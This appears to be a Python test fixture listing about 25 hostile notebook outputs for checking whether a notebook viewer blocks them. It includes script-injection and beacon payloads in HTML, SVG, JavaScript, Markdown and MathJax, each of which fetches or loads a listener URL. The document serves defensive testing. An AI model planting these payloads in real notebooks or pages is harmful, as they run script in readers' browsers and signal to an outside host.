"""Outputs of a notebook that do something to whoever opens them: each asks a listener for a path of its own name."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from markdown_it import MarkdownIt


@dataclass(frozen=True)
class Hostile:
    """One output: its kind, its text (`URL` is the listener's), and what a reader has to click for it to act."""

    name: str
    kind: str
    text: str
    click: str | None = None

    def at(self, url: str) -> str:
        """The text, for a listener."""
        return self.text.replace("URL", f"{url}/{self.name}")


OUTPUTS = (
    Hostile("script", "text/html", "<script>window.ran = 1; fetch('URL')</script>"),
    Hostile("module", "text/html", "<script type=module src='URL'></script>"),
    Hostile("onerror", "text/html", "<img src=x onerror=\"window.ran = 1; fetch('URL')\">"),
    Hostile("image", "text/html", "<img src='URL'>"),
    Hostile("breakout", "text/html", "</pre></section></main></body></html><script>window.ran=1;fetch('URL')</script>"),
    Hostile("iframe", "text/html", "<iframe src='URL'></iframe>"),
    Hostile("srcdoc", "text/html", "<iframe srcdoc=\"<script>top.ran = 1; fetch('URL')</script>\"></iframe>"),
    Hostile("object", "text/html", "<object data='URL' type='text/html'></object>"),
    Hostile("style", "text/html", "<style>h1 { background: url('URL') } main { display: none }</style>"),
    Hostile("import", "text/html", "<style>@import url('URL');</style>"),
    Hostile("sheet", "text/html", "<link rel=stylesheet href='URL'>"),
    Hostile("exfiltration", "text/html", "<style>html:has(body) { --x: url('URL'); cursor: var(--x), auto }</style>"),
    Hostile("video", "text/html", "<video src='URL' autoplay></video>"),
    Hostile("focus", "text/html", "<input autofocus onfocus=\"window.ran = 1; fetch('URL')\">"),
    Hostile(
        "form", "text/html", "<form action='URL' target=_top><button id=send>See the solution</button></form>", "#send"
    ),
    Hostile("link", "text/html", "<a id=go href='URL' target=_top>See the solution</a>", "#go"),
    Hostile("javascript-link", "text/html", "<a id=js href=\"javascript:fetch('URL')\">See the solution</a>", "#js"),
    Hostile("refresh", "text/html", '<meta http-equiv=refresh content="0; url=URL">'),
    Hostile("svg", "image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload=\"window.ran=1;fetch('URL')\"/>"),
    Hostile("foreign", "image/svg+xml", "<svg><foreignObject><iframe src='URL'></iframe></foreignObject></svg>"),
    Hostile("use", "image/svg+xml", "<svg><image href='URL' width=9 height=9 /></svg>"),
    Hostile("javascript", "application/javascript", "window.ran = 1; fetch('URL')"),
    Hostile("markdown-image", "text/markdown", "![nice](URL)"),
    Hostile("markdown-html", "text/markdown", "text <img src=x onerror=\"window.ran = 1; fetch('URL')\"> text"),
    Hostile("mathjax", "text/latex", r"$\require{html}\href{URL}{x}\unicode{x41}\style{background:url(URL)}{y}$"),
)
"""`form` to `refresh` leave the page: what they do is navigation, and no policy of a page forbids that."""
NAVIGATE = ("link", "refresh")

TYPESETTER = r"""
for (const found of document.body.textContent.matchAll(/\\href\{(.*?)\}/g)) new Image().src = found[1];
"""
"""Stands for MathJax, which pages made by notebook converters load from elsewhere: it follows what a formula names."""

RENDERED: dict[str, Callable[[str], str]] = {
    "application/javascript": lambda text: f"<script>{text}</script>",
    "text/markdown": lambda text: MarkdownIt("commonmark", {"html": True}).render(text),
}


def rendered(output: Hostile, url: str) -> str:
    """The output as a notebook viewer shows it that trusts its author."""
    return RENDERED.get(output.kind, str)(output.at(url))
